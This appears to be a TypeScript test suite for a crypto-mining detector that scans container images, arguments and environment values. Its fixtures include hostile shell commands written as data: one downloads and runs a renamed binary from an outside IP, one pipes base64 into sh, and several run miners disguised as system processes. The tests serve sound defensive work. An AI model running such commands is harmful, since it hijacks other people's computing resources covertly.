/** crypto-mining (T1496): miner images and programs, pool URLs and miner flags wherever the process gets them. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { commandFindings, containerPath } from '../indicator-helpers.js';

describe('crypto-mining reports', () => {
  test('a miner image, at the image', () => {
    const found = commandFindings('crypto-mining', undefined, undefined, { image: 'docker.io/xmrig/xmrig:6.21.0' });
    assert.deepEqual(found.map((finding) => [finding.path, finding.severity]), [[containerPath('image'), 'error']]);
  });
  test('the image entrypoint run with a stratum pool in args', () => {
    const found = commandFindings('crypto-mining', undefined, ['-o', 'stratum+tcp://pool.example.net:3333', '-u', '44AFFq5kSiGBoZ'], { image: 'xmrig/xmrig' });
    assert.ok(found.some((finding) => /runs the miner xmrig/.test(finding.message)), JSON.stringify(found.map((f) => f.message)));
  });
  const scripts: Array<[string, string, RegExp]> = [
    ['a renamed miner with a pool URL in a script', 'cd /tmp && curl -so k http://198.51.100.7/k && chmod +x k && ./k -o stratum+ssl://pool.example.net:443', /pool stratum\+ssl/],
    ['stratum2+tcp', 'nohup /opt/worker --url stratum2+tcp://pool.example.net:3333 &', /stratum2\+tcp/],
    ['--donate-level on any program', '/usr/local/bin/sysupdate --donate-level=1 -t 4', /--donate-level/],
    ['-o pool -u wallet', '/opt/kworker -o pool.example.net:4444 -u 44AFFq5kSiGBoZ -p x', /pool and wallet/],
    ['a miner program by name', 'cpuminer-opt -a yescrypt', /runs the miner cpuminer-opt/],
    ['a miner in a decoded payload', 'echo eG1yaWcgLW8gcG9vbC5leGFtcGxlLm5ldDozMzMz | base64 -d | sh', /runs the miner xmrig in a payload it decodes/],
  ];
  for (const [label, script, message] of scripts) {
    test(label, () => {
      const found = commandFindings('crypto-mining', ['/bin/sh', '-c', script]);
      assert.ok(found.some((finding) => finding.severity === 'error' && message.test(finding.message)), JSON.stringify(found.map((f) => f.message)));
    });
  }
  test('a pool URL in an env value', () => {
    const found = commandFindings('crypto-mining', ['/app/run'], undefined, { env: [['POOL', 'stratum+tcp://pool.example.net:3333']] });
    assert.deepEqual(found.map((finding) => finding.path), [containerPath('env', 0, 'value')]);
  });
});

describe('crypto-mining stays quiet on', () => {
  const twins: Array<[string, string]> = [
    ['ssh -o options', 'ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null deploy@host uptime'],
    ['curl -o and -u', 'curl -o /tmp/r.json -u "$USER:$TOKEN" https://api.example.com/report'],
    ['words about mining', 'echo "xmrig and stratum are blocked by policy"'],
    ['a data mining job', 'python3 /app/mine_logs.py --miner-mode fast'],
  ];
  for (const [label, script] of twins) test(label, () => assert.deepEqual(commandFindings('crypto-mining', ['/bin/sh', '-c', script]).map((f) => f.message), []));
  test('images that merely contain miner-like words', () => {
    for (const image of ['registry.example/data/miner-reports:1', 'grafana/promtail:3', 'registry.example/trexler/app:2']) {
      assert.deepEqual(commandFindings('crypto-mining', ['/app/run'], undefined, { image }), [], image);
    }
  });
});
